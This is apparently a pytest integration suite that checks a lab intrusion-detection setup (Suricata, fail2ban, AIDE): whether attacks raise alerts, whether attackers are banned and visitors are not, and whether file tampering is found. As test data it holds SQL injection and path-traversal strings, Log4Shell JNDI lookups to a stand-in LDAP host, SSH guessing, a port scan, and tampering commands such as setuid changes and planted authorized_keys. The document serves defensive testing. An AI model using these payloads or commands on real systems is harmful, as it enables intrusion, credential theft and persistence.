"""Attacks on an edge and on its files: which are seen, who is shut out, and who is not."""

import itertools
import json
import subprocess
from collections import defaultdict
from contextlib import ExitStack, contextmanager
from functools import partial
from types import SimpleNamespace

import pytest

import lab
from lab import inside as run
from lab import wait_until

converge = partial(lab.converge, "intrusion_detection", intrusion_detection_manage_packages=False)
EDGE, WEB, CLIENT = "intrusion-edge", "intrusion-web", "intrusion-client"
SITE, ADDRESS = "www.example.com", "172.30.66.11"
ADMINISTRATOR = "172.30.66.200"
ON_EDGE, ON_WEB = (f"--limit={host}" for host in (EDGE, WEB))
EVE = "/var/log/suricata/eve.json"

_addresses = (f"172.30.66.{last}" for last in itertools.count(31))


@pytest.fixture
def visitor():
    return next(_addresses)


@pytest.fixture
def attacker():
    return next(_addresses)


def applied(*arguments, **variables):
    done = converge(*arguments, **variables)
    assert done.returncode == 0, done.stdout
    return done.stdout


def ask(client, path="/", *options, scheme="https", times=1):
    """Send a request from an address, several times or for a range of paths: [1-9]. Returns the statuses of the answers."""
    port = {"http": 80, "https": 443}[scheme]
    done = subprocess.run(
        [
            *(
                "docker",
                "exec",
                CLIENT,
                "curl",
                "--silent",
                "--insecure",
                "--interface",
                client,
                "--connect-timeout",
                "2",
            ),
            *("--path-as-is", "--no-progress-meter", "--write-out", "%{http_code}\n"),
            *("--resolve", f"{SITE}:{port}:{ADDRESS}", *options),
            *("--output", "/dev/null", f"{scheme}://{SITE}{path}") * times,
        ],
        capture_output=True,
        text=True,
        check=False,
    )
    return [int(status) for status in done.stdout.split()]


def alerts():
    return [json.loads(line) for line in run(EDGE, f"cat {EVE}").splitlines() if '"event_type":"alert"' in line]


def seen(client):
    """The alerts about a client: (sid, interface)."""
    return {
        (event["alert"]["signature_id"], event["in_iface"])
        for event in alerts()
        if client in (event["alert"].get("xff"), event["src_ip"])
    }


def bans():
    """Who is banned, and by which jails."""
    found = defaultdict(set)
    for entry in json.loads(run(EDGE, "fail2ban-client banned").replace("'", '"')):
        for jail, addresses in entry.items():
            for address in addresses:
                found[address].add(jail)
    return found


def banned(client):
    """The jails that have banned an address."""
    return bans()[client]


def open_ports(*clients):
    """The ports of the edge to which each address can connect, all tried at once."""
    program = f"""
import concurrent.futures, json, socket
def connects(door):
    try:
        socket.create_connection(("{ADDRESS}", door[1]), 2, (door[0], 0)).close()
    except OSError:
        return False
    return True
doors = [(client, port) for client in {json.dumps(clients)} for port in (22, 80, 443)]
with concurrent.futures.ThreadPoolExecutor(len(doors)) as pool:
    print(json.dumps([door for door, connected in zip(doors, pool.map(connects, doors)) if connected]))
"""
    doors = json.loads(run(CLIENT, f"python3 -c '{program}'"))
    return {client: {port for source, port in doors if source == client} for client in clients}


def process():
    return run(EDGE, "systemctl show --property MainPID --value suricata")


SQL = "/?id=1%27%20UNION%20SELECT%20user,password%20FROM%20users--"
ATTACKS = {
    "sqlmap": (1721001, "/", "--user-agent", "sqlmap/1.8#stable (https://sqlmap.org)"),
    "nikto": (1721001, "/", "--user-agent", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)"),
    "nmap": (1721001, "/", "--user-agent", "Mozilla/5.0 (compatible; Nmap Scripting Engine)"),
    "UNION SELECT": (1721002, SQL),
    "UNION SELECT, with comments and capitals": (1721002, "/?id=1/**/uNiOn/**/aLL%20sElEcT+1,2"),
    "UNION SELECT, encoded twice": (1721002, "/?id=1%2527%2520union%2520select%25201"),
    "always true": (1721002, "/?user=admin%27%20OR%20%271%27=%271"),
    "time": (1721002, "/?id=1%20AND%20SLEEP(5)"),
    "login form": (1721003, "/login", "--data", "user=admin'+or+'1'%3D'1&password=x"),
    "dropped table": (1721003, "/assets/1", "--data", "name=x');DROP+TABLE+visitors;--"),
    "path traversal": (1721004, "/assets/1?file=../../../../etc/passwd"),
    "path traversal, encoded": (1721004, "/assets/1?file=%2e%2e/%2e%2e%2f%2e%2e%2fhostname"),
    "JNDI in a header": (1721006, "/", "--header", "X-Api-Version: ${jndi:ldap://192.0.2.66/a}"),
    "JNDI in the address": (1721007, "/?q=%24%7Bjndi:ldap://192.0.2.66/a%7D"),
}
# What the load balancer refuses to pass on over https.
REFUSED = {
    "path traversal": (1721004, "/assets/../../../etc/hostname"),
    "path traversal, encoded": (1721004, "/assets/%2e%2e/%2e%2e%2fhostname"),
    ".env": (1721005, "/.env"),
    ".git": (1721005, "/.git/config"),
}


# Each attack has an address of its own.
ATTACKERS = {attack: next(_addresses) for attack in (*ATTACKS.values(), *REFUSED.values())}


@pytest.fixture(scope="module")
def answers():
    """Make every attack; what was answered to each: over https, where the load balancer refuses it over http as well."""
    found = {}
    for attack, attacker in ATTACKERS.items():
        _, path, *options = attack
        found[attack] = ask(attacker, path, scheme="http") if attack in REFUSED.values() else []
        found[attack] += ask(attacker, path, "--globoff", *options, times=2)
    return found


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_an_attack_is_seen_whichever_server_gets_it(answers, attack):
    sid = attack[0]
    assert len(answers[attack]) == 2
    wait_until(lambda: {(sid, "eth0"), (sid, "lo")} <= seen(ATTACKERS[attack]))


@pytest.mark.parametrize("attack", REFUSED.values(), ids=REFUSED)
def test_what_the_load_balancer_refuses_is_seen_on_http_and_counted_from_its_log_on_https(answers, attack):
    sid, attacker = attack[0], ATTACKERS[attack]
    assert answers[attack] == [403] * 3
    wait_until(lambda: seen(attacker) == {(sid, "eth0")})
    wait_until(lambda: "webstack-scanner" in banned(attacker))


CAMPAIGNS = {
    "guesses passwords": ("webstack-login", lambda client: ask(client, "/login?[1-12]")),
    "tries doors": ("webstack-refused", lambda client: ask(client, "/door[1-35]")),
    "asks for what scanners ask for": ("webstack-scanner", lambda client: ask(client, "/wp-login.php?[1-4]")),
    "injects SQL": ("webstack-attack", lambda client: ask(client, SQL, times=6)),
    "injects SQL over http": ("webstack-attack", lambda client: ask(client, SQL, scheme="http", times=6)),
    "guesses names by ssh": ("sshd", lambda client: guess(client)),
}


def guess(client):
    options = "-o BatchMode=yes -o ConnectTimeout=2 -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null"
    run(
        CLIENT,
        f"for name in a b c d e f; do timeout 10 ssh {options} -o BindAddress={client} $name@{ADDRESS}; done",
        check=False,
    )


@pytest.fixture(scope="module")
def siege():
    """A visitor's day, an administrator who does all that others are banned for, and an attacker for each campaign, until all of these are banned."""
    visitor, victim = next(_addresses), next(_addresses)
    attackers = {campaign: next(_addresses) for campaign in CAMPAIGNS}
    forgers = {scheme: next(_addresses) for scheme in ("http", "https")}
    before = open_ports(visitor, *attackers.values())
    visits = [visit(visitor), visit(visitor)]
    for campaign, (_, attack) in CAMPAIGNS.items():
        attack(ADMINISTRATOR)
        attack(attackers[campaign])
    for scheme, forger in forgers.items():
        ask(forger, SQL, "--header", f"X-Forwarded-For: {victim}", scheme=scheme, times=6)
    expected = {attackers[campaign]: jail for campaign, (jail, _) in CAMPAIGNS.items()}
    expected |= dict.fromkeys(forgers.values(), "webstack-attack")

    def all_banned():
        found = bans()
        return all(jail in found[client] for client, jail in expected.items())

    wait_until(all_banned)
    # fail2ban lists a ban before it has told the firewall.
    wait_until(lambda: not any(open_ports(*expected).values()))
    return SimpleNamespace(
        visitor=visitor,
        visits=visits,
        victim=victim,
        attackers=attackers,
        forgers=forgers,
        before=before,
        bans=bans(),
        after=open_ports(visitor, ADMINISTRATOR, *attackers.values()),
    )


def visit(client):
    """What somebody is answered who reads two pages' worth of the site, with a missing icon and a mistyped password."""
    return [
        *ask(client),
        *ask(client, "/assets/[1-40]?v=union-station&q=select+a+seat"),
        *ask(client, "/favicon.ico"),
        *ask(client, "/login", "--data", "user=o'brien&password=or+not"),
        *ask(client, "/assets/1", "--data", "message=It's+me+or+you;+select+one+of+the+union's+tables"),
        *ask(client, scheme="http"),
    ]


def test_a_visitor_raises_no_alarm_and_is_not_banned(siege):
    assert siege.visits == [[200] * 41 + [404, 401, 200, 301]] * 2
    assert seen(siege.visitor) == set()
    assert siege.bans[siege.visitor] == set()
    assert ask(siege.visitor) == [200]


@pytest.mark.parametrize("campaign", CAMPAIGNS)
def test_an_attacker_is_shut_out_and_nobody_else_is(siege, campaign):
    attacker = siege.attackers[campaign]
    assert siege.before[attacker] == {22, 80, 443}
    assert CAMPAIGNS[campaign][0] in siege.bans[attacker]
    assert siege.after[attacker] == set()
    assert siege.after[siege.visitor] == {22, 80, 443}


def test_an_administrator_who_does_all_of_that_is_seen_and_never_shut_out(siege):
    assert (1721002, "lo") in seen(ADMINISTRATOR)
    assert siege.bans[ADMINISTRATOR] == set()
    assert siege.after[ADMINISTRATOR] == {22, 80, 443}
    assert ask(ADMINISTRATOR) == [200]


@pytest.mark.parametrize("scheme", ["http", "https"])
def test_nobody_can_have_another_client_banned(siege, scheme):
    assert "webstack-attack" in siege.bans[siege.forgers[scheme]]
    assert siege.bans[siege.victim] == set()
    assert ask(siege.victim) == [200]


def test_guessed_passwords_are_an_alert_too(attacker):
    ask(attacker, "/login?[1-60]")
    wait_until(lambda: 1721010 in {event["alert"]["signature_id"] for event in alerts()})


def test_a_port_scan_is_seen_and_many_connections_to_the_site_are_none(attacker, visitor):
    scan = "import socket; [socket.socket().connect_ex(('{}', port)) for port in range(3000, 3040)]"
    source = f"ip route add {ADDRESS} dev eth0 src"
    try:
        run(CLIENT, f'{source} {attacker}; python3 -c "{scan.format(ADDRESS)}"')
        run(CLIENT, f"ip route del {ADDRESS}")
        assert ask(visitor, "/", "--no-keepalive", "--header", "Connection: close", "--http1.1", times=30) == [200] * 30
    finally:
        run(CLIENT, f"ip route del {ADDRESS}", check=False)
    wait_until(lambda: (1721011, "eth0") in seen(attacker))
    assert seen(visitor) == set()


RULE = 'alert http any any -> any any (msg:"user"; flow:to_server; http.uri; content:"/assets/bait"; sid:1000001;)'


@pytest.fixture(scope="module")
def changed():
    """A run with another setting and a rule of the user's, while somebody is banned."""
    attacker = next(_addresses)
    ask(attacker, "/wp-login.php?[1-4]")
    wait_until(lambda: banned(attacker))
    before = process()
    said = applied(ON_EDGE, intrusion_detection_ban_seconds=700, intrusion_detection_suricata_rules=RULE)
    return SimpleNamespace(attacker=attacker, process=before, said=said)


def test_bans_outlive_a_run_and_a_changed_setting(changed):
    assert run(EDGE, "fail2ban-client get webstack-scanner bantime").strip() == "700"
    assert "webstack-scanner" in banned(changed.attacker)
    assert open_ports(changed.attacker) == {changed.attacker: set()}


def test_a_rule_of_the_users_is_taken_up_without_a_restart(changed, attacker):
    ask(attacker, "/assets/bait")
    wait_until(lambda: 1000001 in {sid for sid, _ in seen(attacker)})
    assert process() == changed.process


def test_a_host_that_cannot_audit_says_so(changed):
    assert "does not let this host audit" in changed.said
    assert "key=identity" in run(EDGE, "cat /etc/audit/rules.d/webstack.rules")


def test_what_cannot_work_is_refused_and_all_goes_on(changed, attacker):
    refused = [
        (
            "suricata_rules",
            RULE + "\nalert http any any -> any any (msg:x; nonsense;)",
            "refused the files, all are as they were",
            "nonsense",
        ),
        (
            "never_banned",
            ["www.example.com"],
            "www.example.com is no address: write it as 192.0.2.11 or 203.0.113.0/28",
        ),
        ("never_banned", ["0.0.0.0/0"], "0.0.0.0/0 holds every address, and nobody would be banned"),
        ("proxies", ["172.30.66.0/24"], "is a network, whose every host could name a victim to ban"),
        ("home_networks", ["300.1.2.3"], "300.1.2.3"),
        ("http_ports", [0], "intrusion_detection_http_ports: 0 is no TCP port"),
        ("http_ports", [], "intrusion_detection_http_ports is empty"),
        ("ban_after", {"login": 0}, "intrusion_detection_ban_after: login is 0: at least 1"),
        ("ban_after", {"logins": 5}, "logins"),
        ("ban_seconds", 0, "intrusion_detection_ban_seconds is 0: 1 to 604800"),
        ("suricata_log_days", 0, "intrusion_detection_suricata_log_days is 0: at least 1"),
        ("fail2ban_config", "[mine]\nenabled = true\nfilter = nonsense", "nonsense"),
        ("aide_paths", ["etc"], "intrusion_detection_aide_paths: etc does not begin at the root"),
        ("aide_paths", ["/etc/("], "/etc/("),
        ("aide_schedule", "sometimes", "sometimes"),
        ("aide_finding", "ignore", "ignore"),
    ]
    refused = [({f"intrusion_detection_{name}": value}, *said) for name, value, *said in refused]
    files = "/etc/suricata/*.yaml /etc/suricata/rules/* /etc/fail2ban/*.d/webstack* /etc/aide/webstack.conf /etc/systemd/system/file*"
    before = run(EDGE, f"sha256sum {files}"), run(EDGE, "fail2ban-client status")
    lab.assert_refused(
        "intrusion_detection", refused, ON_EDGE, '--extra-vars={"intrusion_detection_manage_packages": false}'
    )
    assert (run(EDGE, f"sha256sum {files}"), run(EDGE, "fail2ban-client status")) == before
    ask(attacker, SQL)
    ask(attacker, "/assets/bait")
    wait_until(lambda: {1721002, 1000001} <= {sid for sid, _ in seen(attacker)})
    assert process() == changed.process


def test_alerts_go_on_when_their_file_is_rotated(attacker):
    run(EDGE, f"logrotate --force /etc/logrotate.d/suricata && test -s {EVE}.1")
    ask(attacker, SQL)
    wait_until(lambda: run(EDGE, f"test -s {EVE} && echo yes", check=False))
    assert seen(attacker)


def findings():
    """What the comparison of the files says. It ends with 1 when it says something."""
    done = subprocess.run(["docker", "exec", WEB, "file-integrity"], capture_output=True, text=True, check=False)
    assert done.returncode == (1 if done.stdout else 0), done.stderr
    return done.stdout.splitlines()


@contextmanager
def change(command, undo):
    run(WEB, command)
    try:
        yield
    finally:
        run(WEB, undo)


TAMPERING = {
    "a program": ("echo >> /usr/bin/who", "truncate --size=-1 /usr/bin/who", "/usr/bin/who: changed (sha256)"),
    "a setuid bit": ("chmod u+s /usr/bin/env", "chmod u-s /usr/bin/env", "/usr/bin/env: changed (perm)"),
    "an owner": ("chown 1000 /etc/fstab", "chown 0 /etc/fstab", "/etc/fstab: changed (uid)"),
    "a cron job": ("mkdir /etc/cron.d; echo >/etc/cron.d/x", "rm -r /etc/cron.d", "/etc/cron.d/x: added"),
    "a unit": (
        "echo >/etc/systemd/system/x.service",
        "rm /etc/systemd/system/x.service",
        "/etc/systemd/system/x.service: added",
    ),
    "a key": (
        "mkdir -p /home/x/.ssh; echo >/home/x/.ssh/authorized_keys",
        "rm -r /home/x",
        "/home/x/.ssh/authorized_keys: added",
    ),
    "a library": ("cp /lib/*/libz.so.1 /usr/lib/libzz.so", "rm /usr/lib/libzz.so", "/usr/lib/libzz.so: added"),
    "a file that is gone": ("mv /etc/issue /root/", "mv /root/issue /etc/", "/etc/issue: removed"),
    "a link": (
        "ln -sfn /bin/true /usr/bin/awk",
        "ln -sfn /etc/alternatives/awk /usr/bin/awk",
        "/usr/bin/awk: changed (lname)",
    ),
    "a quote in a name": ("touch '/etc/a \"b'", "rm '/etc/a \"b'", '/etc/a "b: added'),
}


def test_a_program_that_was_changed_before_the_first_run_is_found():
    """prepare.yml has changed it: the record must not begin with a blessing."""
    assert "/usr/bin/tac: differs from its package" in run(WEB, "journalctl --output=cat --unit=file-integrity")
    assert findings() == ["/usr/bin/tac: added"]


def test_a_run_records_its_own_changes_and_does_not_bless_those_of_others():
    unexplained = ["/usr/bin/tac: added", "/usr/bin/who: changed (sha256)"]
    with change("echo >> /usr/bin/who", "truncate --size=-1 /usr/bin/who /usr/bin/tac"):
        said = applied(ON_WEB, intrusion_detection_aide_schedule="*-*-* 04:00:00")
        report = said.partition("UNEXPLAINED")[2]
        assert all(finding in report for finding in unexplained)
        assert "file-integrity.timer" not in report
        assert findings() == unexplained
        # Whatever the run's tags are.
        strict = converge(ON_WEB, "--tags=none", intrusion_detection_aide_finding="fail")
        assert strict.returncode == 2
        assert findings() == unexplained
    assert "UNEXPLAINED" not in applied(ON_WEB, "--tags=none", intrusion_detection_aide_finding="fail")
    assert findings() == []


def test_every_changed_file_is_found_until_it_is_as_it_was():
    with ExitStack() as stack:
        for harm, remedy, _ in TAMPERING.values():
            stack.enter_context(change(harm, remedy))
        found = findings()
    assert {finding for *_, finding in TAMPERING.values()} <= set(found)
    assert findings() == []


def test_the_daily_comparison_fails_and_says_why_in_the_journal():
    assert "file-integrity.timer" in run(WEB, "systemctl list-timers")
    with change("chmod g+w /etc/fstab", "chmod g-w /etc/fstab"):
        run(WEB, "systemctl start file-integrity", check=False)
        assert run(WEB, "systemctl is-failed file-integrity", check=False).strip() == "failed"
        said = run(WEB, "journalctl --output=cat --since=-1min --unit=file-integrity")
        assert "/etc/fstab: changed (perm)" in said.splitlines()
    run(WEB, "systemctl start file-integrity")


def test_a_run_that_waits_for_another_comparison_still_knows_its_changes():
    waiting = "chmod g+w /etc/fstab; flock /var/lib/aide/webstack.lock sleep 4 & sleep 0.5; file-integrity --within 3"
    with change("true", "chmod g-w /etc/fstab; file-integrity --accept"):
        assert run(WEB, waiting).strip() == "recorded"
    assert findings() == []


def test_what_a_package_brings_is_no_finding_and_what_only_looks_like_it_is():
    run(WEB, "apt-get -qq install hello >/dev/null 2>&1")
    assert findings() == []
    with change("echo >> /usr/bin/hello; chmod u+s /usr/bin/hello", "rm /usr/bin/hello"):
        assert findings() == ["/usr/bin/hello: changed (perm, sha256)"]
    assert findings() == ["/usr/bin/hello: removed"]
    run(WEB, "apt-get -qq purge hello >/dev/null 2>&1")
    assert findings() == []


def test_an_administrator_accepts_a_change():
    with change("echo >/etc/mine.conf", "true"):
        assert findings() == ["/etc/mine.conf: added"]
        run(WEB, "file-integrity --accept")
        assert findings() == []
    run(WEB, "rm /etc/mine.conf; file-integrity --accept")
